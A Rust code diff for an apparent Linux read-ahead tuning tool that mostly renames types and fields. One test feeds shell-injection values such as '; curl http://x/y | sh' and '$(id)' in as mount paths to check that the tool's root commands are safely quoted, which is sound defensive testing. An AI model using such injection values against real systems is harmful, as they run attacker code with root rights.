@@ -50,7 +50,7 @@ pub struct OfReadahead {
     /// Of the model; null where none is known.
     error: Option<ErrorBar>,
     /// Of a change of file-system options.
-    error_made: Option<ErrorBar>,
+    error_other_options: Option<ErrorBar>,
 }
 
 #[derive(Serialize, JsonSchema)]
@@ -93,14 +93,14 @@ fn of_readahead(
     let io_pages = below.io_pages;
     let predictor = Predictor::new(workload, below);
     let recorded = predictor.recorded(&TRIED_KIB);
-    let mut storage = Storage::of(trace.facts(), workload.sizes.keys().filter_map(|file| file.device));
+    let mut storage = FileStorage::of(trace.facts(), workload.sizes.keys().filter_map(|file| file.device));
     let knob = recorded_knob(trace.facts(), &storage.knobs).map(|(_, said)| said);
     let (now, from) = set_now(args.now, knob, &predictor, &recorded);
     let filesystem = predict::mounted(trace, workload).unwrap_or_default();
     let error = predict::error_bar(kernel, &predictor, &filesystem, &args.model);
-    let made = predict::error_bar_made(kernel, &predictor, &args.model);
+    let other = predict::error_bar_other_options(kernel, &predictor, &args.model);
     let worst = |bar: &Option<ErrorBar>| bar.as_ref().map(|bar| bar.time_worst_percent);
-    let mut advice = advise(&predictor, now, Off { window: worst(&error), made: worst(&made) });
+    let mut advice = advise(&predictor, now, Off { window: worst(&error), options: worst(&other) });
     let row = predictor.row(now, &|_| false);
     let cases = silent(&Seen {
         facts: trace.facts(),
@@ -126,7 +126,7 @@ fn of_readahead(
     if from.is_none() || !storage.weighed {
         advice.retain(|one| !matches!(one.change, Change::SetReadahead { .. }));
     }
-    told.extend(no_range(&advice, made.as_ref()));
+    told.extend(no_range(&advice, other.as_ref()));
     told.extend(predictor.overlap().map(predict::overlap_note));
     told.extend(predict::notes(workload, trace, kernel, exact));
     let readahead_kib_now = match from {
@@ -137,7 +137,8 @@ fn of_readahead(
         let risk_of = |one: &Advice| risk(one, &storage);
         let list =
             advice.iter().map(|one| Weighed { lines: lines(one, &storage), risk: risk_of(one), advice: one.clone() });
-        let readahead = OfReadahead { model: kernel.name(), readahead_kib_now, silent: cases, error, error_made: made };
+        let readahead =
+            OfReadahead { model: kernel.name(), readahead_kib_now, silent: cases, error, error_other_options: other };
         let all = Printed {
             schema: SCHEMA,
             findings: found,
@@ -155,7 +156,7 @@ fn of_readahead(
     };
     out!("{}", text(&format!("Read-ahead now: {said}. Rules of Linux {}.", kernel.name()), &style(), 0, 0));
     print(&advice, trace, &storage)?;
-    print_bars(&advice, &error, &made, kernel)?;
+    print_bars(&advice, &error, &other, kernel)?;
     if !told.is_empty() {
         outln!("\nWhat this rests on");
     }
@@ -202,12 +203,12 @@ fn not_weighed(row: &Row) -> String {
 fn print_bars(
     advice: &[Advice],
     error: &Option<ErrorBar>,
-    made: &Option<ErrorBar>,
+    other: &Option<ErrorBar>,
     kernel: Kernel,
 ) -> Result<(), Failure> {
     let between = || advice.iter().filter(|one| one.gain_between_percent.is_some());
-    for (bar, is_made) in [(error, false), (made, true)] {
-        if let Some(bar) = bar.as_ref().filter(|_| between().any(|one| one.change.is_made() == is_made)) {
+    for (bar, of_options) in [(error, false), (other, true)] {
+        if let Some(bar) = bar.as_ref().filter(|_| between().any(|one| one.change.changes_options() == of_options)) {
             let worst = flashscope_report::worst(bar, kernel.name());
             out!("\n{}", text(&format!("From and to: what is predicted may be off by {worst}"), &style(), 0, 0));
         }
@@ -223,10 +224,10 @@ fn several_settings_fit<T>(pages: u64) -> Evidence<T> {
 }
 
 /// Why the gain of another mount has no range, where it has none.
-fn no_range(advice: &[Advice], made: Option<&ErrorBar>) -> Option<String> {
-    let bar = made.filter(|bar| bar.time_worst_percent >= 100.0)?;
+fn no_range(advice: &[Advice], other: Option<&ErrorBar>) -> Option<String> {
+    let bar = other.filter(|bar| bar.time_worst_percent >= 100.0)?;
     let unsure =
-        |one: &Advice| one.change.is_made() && one.time_then_ns.is_some() && one.gain_between_percent.is_none();
+        |one: &Advice| one.change.changes_options() && one.time_then_ns.is_some() && one.gain_between_percent.is_none();
     advice.iter().any(unsure).then(|| {
         format!(
             "no range for another mount: the layout of the files is unknown, and without it times were up to {:.0} % off (use \
@@ -237,7 +238,7 @@ fn no_range(advice: &[Advice], made: Option<&ErrorBar>) -> Option<String> {
 }
 
 /// What is to be set, below /sys: what findings recommend, and the predicted window.
-fn knobs(found: &[Finding], kib: Option<u64>, storage: &Storage) -> Result<Vec<(String, String)>, Failure> {
+fn knobs(found: &[Finding], kib: Option<u64>, storage: &FileStorage) -> Result<Vec<(String, String)>, Failure> {
     let mut knobs = findings::knobs(found);
     if let Some(kib) = kib {
         if storage.knobs.is_empty() {
@@ -254,7 +255,7 @@ fn knobs(found: &[Finding], kib: Option<u64>, storage: &Storage) -> Result<Vec<(
 }
 
 /// What of read-ahead is worth changing.
-fn print(advice: &[Advice], trace: &Trace, storage: &Storage) -> Result<(), Failure> {
+fn print(advice: &[Advice], trace: &Trace, storage: &FileStorage) -> Result<(), Failure> {
     if advice.is_empty() {
         let why = if storage.weighed {
             ": no setting of read-ahead gains more than 3 %"
@@ -380,7 +381,7 @@ fn gain(advice: &Advice) -> String {
 }
 
 /// Where the files lie, and which knob is theirs.
-struct Storage {
+struct FileStorage {
     /// Directories of /sys/class/bdi.
     knobs: Vec<String>,
     shared: bool,
@@ -393,9 +394,9 @@ struct Storage {
     odd: Vec<String>,
 }
 
-impl Storage {
-    fn of(facts: &Facts, devices: impl Iterator<Item = u32>) -> Storage {
-        let mut storage = Storage {
+impl FileStorage {
+    fn of(facts: &Facts, devices: impl Iterator<Item = u32>) -> FileStorage {
+        let mut storage = FileStorage {
             knobs: Vec::new(),
             shared: false,
             synchronous: false,
@@ -428,11 +429,11 @@ impl Storage {
         storage.knobs.dedup();
         // The trace may come from anybody; what is typed after its advice is typed by root.
         let (knobs, odd) = storage.knobs.into_iter().partition(|name| quote::sysfs(name).is_some());
-        Storage { knobs, odd, ..storage }
+        FileStorage { knobs, odd, ..storage }
     }
 }
 
-fn risk(advice: &Advice, storage: &Storage) -> String {
+fn risk(advice: &Advice, storage: &FileStorage) -> String {
     let mut text = match advice.change {
         Change::BulkRead { on: true, .. } => {
             "reads here and there that hit three pages in a row bring in up to 32; a bulk read needs a buffer of up to 130 KiB in one \
@@ -468,7 +469,7 @@ fn not_offered(what: &str, name: &str) -> String {
 }
 
 /// What to type, now and for good.
-fn lines(advice: &Advice, storage: &Storage) -> Vec<String> {
+fn lines(advice: &Advice, storage: &FileStorage) -> Vec<String> {
     match advice.change {
         Change::SetReadahead { kib } => {
             let names = if storage.knobs.is_empty() { vec!["MAJOR:MINOR".to_owned()] } else { storage.knobs.clone() };
@@ -564,7 +565,7 @@ mod tests {
     use super::*;
     use flashscope_cachesim::{Access, FileId, Kernel, NodeRuns, OpenId};
     use flashscope_predict::Storage as Below;
-    use flashscope_predict::{Call, Step, Workload};
+    use flashscope_predict::{Call, TaskAccess, Workload};
     use serde_json::{Value, json};
 
     const FILE: FileId = FileId { device: Some(14), inode: 5 };
@@ -573,7 +574,7 @@ mod tests {
         let mut workload = Workload { sizes: [(FILE, 200 * PAGE_BYTES)].into(), ..Workload::default() };
         for page in 0..200 {
             let access = Access::Read { offset: page * PAGE_BYTES, length: PAGE_BYTES };
-            workload.steps.push(Step { tid: 7, file: FILE, open: OpenId(7), access, call: Some(page as u32) });
+            workload.steps.push(TaskAccess { tid: 7, file: FILE, open: OpenId(7), access, call: Some(page as u32) });
             let duration_ns = Some(300_000);
             workload.calls.push(Call {
                 pages_added: 1,
@@ -603,7 +604,7 @@ mod tests {
         workload.nodes.flash_pages = Some(2.0);
         let predictor = Predictor::new(&workload, Below::new(Kernel::V6_1));
         let advice = &advise(&predictor, 0, Off::default())[0];
-        let storage = Storage::of(&Facts::of(&facts), [14].into_iter());
+        let storage = FileStorage::of(&Facts::of(&facts), [14].into_iter());
         let lines = lines(advice, &storage);
         let words = |line: &str| lines.iter().any(|one| one.ends_with(line));
         assert!(words(" mount -o remount,bulk_read /") && words("rootflags=bulk_read"), "{lines:?}");
@@ -629,7 +630,7 @@ mod tests {
         };
         let of = |change: Change, facts: &Value| {
             let advice = Advice { change, ..some_advice() };
-            lines(&advice, &Storage::of(&Facts::of(facts), [14].into_iter()))
+            lines(&advice, &FileStorage::of(&Facts::of(facts), [14].into_iter()))
         };
         let attack = "; curl http://x/y | sh";
         for target in [format!("/mnt/{attack}"), "/mnt/`id`".into(), "/mnt/$(id)".into(), "/mnt/a b' ; x".into()] {
@@ -660,7 +661,7 @@ mod tests {
         let workload = whole_file();
         let below = Below { squashfs: [(14, 8 << 10)].into(), ..Below::new(Kernel::V6_1) };
         let advice = advise(&Predictor::new(&workload, below), 0, Off::default());
-        let storage = Storage::of(&Facts::default(), [14].into_iter());
+        let storage = FileStorage::of(&Facts::default(), [14].into_iter());
         let one = advice.last().expect("larger blocks");
         assert!(lines(one, &storage)[0].starts_with("mksquashfs ROOT IMAGE -b 131072"), "{advice:?}");
         assert!(gain(one).starts_with("7 blocks") && gain(one).contains("instead of 100"), "{}", gain(one));
